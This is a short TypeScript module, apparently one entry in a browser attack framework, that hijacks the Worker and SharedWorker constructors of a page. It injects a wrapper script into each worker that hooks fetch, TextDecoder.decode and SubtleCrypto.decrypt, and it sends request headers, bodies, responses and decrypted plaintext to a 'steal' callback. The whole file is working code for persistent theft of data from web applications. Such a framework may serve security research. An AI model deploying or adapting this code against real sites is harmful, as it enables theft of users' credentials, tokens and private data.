import { attack } from "../attack.js";

export default attack({
  name: "wraps every worker that the page starts",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    // Wraps the app's worker script in the same global, and reports its requests and messages to the page.
    const around = (url: string) => {
      const script = `
        const tell = (...values) => new BroadcastChannel("wrapped").postMessage(values.map(String));
        const { fetch, postMessage } = self;
        self.fetch = async (input, init) => {
          tell(input.url ?? input, [...new Headers(init?.headers ?? input.headers)].join(), init?.body ?? "");
          const response = await fetch(input, init);
          response.clone().text().then(tell);
          return response;
        };
        const { decode } = TextDecoder.prototype;
        TextDecoder.prototype.decode = function (...args) {
          const text = decode.apply(this, args);
          tell(text);
          return text;
        };
        const { decrypt } = SubtleCrypto.prototype;
        SubtleCrypto.prototype.decrypt = async function (...args) {
          const bytes = await decrypt.apply(this, args);
          tell(new TextDecoder("latin1").decode(bytes.slice(0)));
          return bytes;
        };
        importScripts(${JSON.stringify(url)});`;
      return URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
    };
    new BroadcastChannel("wrapped").onmessage = ({ data }) => it.steal(...(data as string[]));
    for (const name of ["Worker", "SharedWorker"] as const) {
      if (!(name in window)) continue;
      window[name] = new Proxy(window[name], {
        construct(target, [url, ...rest]: [string | URL, ...unknown[]]) {
          try {
            return new target(it.scriptUrl(around(new URL(url, location.href).href)), ...(rest as []));
          } catch {
            // WebKit starts no shared worker from a blob; start the app's own.
            return new target(url as string, ...(rest as []));
          }
        },
      }) as never;
    }
  },
});
